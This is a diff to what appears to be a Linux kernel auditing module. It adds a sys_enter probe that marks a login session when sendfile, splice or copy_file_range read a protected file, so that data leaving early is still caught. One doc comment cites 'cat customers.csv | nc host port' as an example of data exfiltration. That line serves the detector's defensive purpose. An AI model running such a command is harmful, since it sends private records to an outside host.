@@ -5,7 +5,8 @@
  * still hold the arguments.  A failed syscall leaves at the first compare;
  * read(2) is taken inline; other numbers go out of line to a switch where
  * all but a handful leave, and writes leave at one more test unless some
- * session read protected data within the egress window.
+ * session read protected data within the egress window.  At sys_enter,
+ * only the in-kernel copies stop, to mark the session before data moves.
  */
 #include <linux/fdtable.h>
 #include <linux/socket.h>
@@ -348,6 +349,67 @@ static noinline void sys_exit_x64(struct pt_regs *regs, long ret, int nr)
 	case __NR_mmap:
 		on_mmap(regs);
 		break;
+	}
+}
+
+/*
+ * A protected source of sendfile, splice or copy_file_range marks its
+ * reader's login session before a byte moves (daudit_probe_sys_enter()).
+ */
+static noinline void mark_source(unsigned int fd)
+{
+	struct daudit_policy *p;
+	struct daudit_fentry *fe = NULL;
+	struct file *file;
+
+	daudit_syscall_probe_enter();
+	p = daudit_policy_current();
+	file = p ? file_to_check(fd) : NULL;
+	if (file)
+		fe = daudit_fcache_get(p, file, false, fd);
+	if (fe)
+		daudit_session_mark_early(p, fe, current);
+	daudit_syscall_probe_exit();
+}
+
+/**
+ * daudit_probe_sys_enter - raw_syscalls:sys_enter probe.
+ * @data: unused.
+ * @regs: the syscall's saved registers.
+ * @id: its number.
+ *
+ * The syscalls that move data inside the kernel put it where another
+ * process can take it before they return: `cat customers.csv | nc host
+ * port` has busybox cat sendfile() into the pipe while nc already sends
+ * what it finds there.  Marked only at sys_exit, the session would let
+ * those first bytes out unseen, so a protected source marks it here; the
+ * bytes read are still counted at exit.  Every other syscall leaves at the
+ * switch.
+ */
+notrace daudit_nocanary void daudit_probe_sys_enter(void *data,
+						    struct pt_regs *regs,
+						    long id)
+{
+	switch (id) {
+	case __NR_sendfile:
+		if (!in_ia32_syscall())
+			mark_source(regs->si);
+		return;
+	case __NR_splice:
+	case __NR_copy_file_range:
+		if (!in_ia32_syscall())
+			mark_source(regs->di);
+		return;
+	case IA32_sendfile:
+	case IA32_sendfile64:
+		if (in_ia32_syscall())
+			mark_source(regs->cx);
+		return;
+	case IA32_splice:
+	case IA32_copy_file_range:
+		if (in_ia32_syscall())
+			mark_source(regs->bx);
+		return;
 	}
 }
 
